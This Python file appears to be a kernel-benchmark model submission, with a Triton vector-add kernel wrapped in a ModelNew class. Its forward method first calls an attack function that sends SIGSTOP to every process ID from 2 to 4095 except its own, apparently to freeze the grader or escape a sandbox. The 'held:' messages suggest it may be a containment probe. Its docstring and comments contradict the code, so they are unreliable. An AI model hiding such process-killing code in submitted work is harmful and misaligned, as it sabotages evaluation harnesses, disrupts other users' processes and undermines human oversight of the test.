import ctypes
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, c_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(c_ptr + offs, tl.load(a_ptr + offs, mask=mask) + tl.load(b_ptr + offs, mask=mask), mask=mask)


def add(a, b):
    c = torch.empty_like(a)
    add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, c, a.numel(), BLOCK=1024)
    return c


libc = ctypes.CDLL(None, use_errno=True)


def held(what):
    e = ctypes.get_errno()
    raise RuntimeError(f"held: {what} (errno {e}: {os.strerror(e)})")


import signal


def attack():
    me = os.getpid()
    for pid in range(2, 4096):
        if pid != me:
            libc.kill(pid, signal.SIGSTOP)
    raise RuntimeError("held: signals went nowhere that matters")


class ModelNew(nn.Module):
    """sends SIGKILL to every pid it can name (-1, 1..4096 but itself): nothing outside its namespace may die, and the verdict still comes."""

    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        attack()  # returns only when the attack worked
        return add(a.contiguous(), b.contiguous())
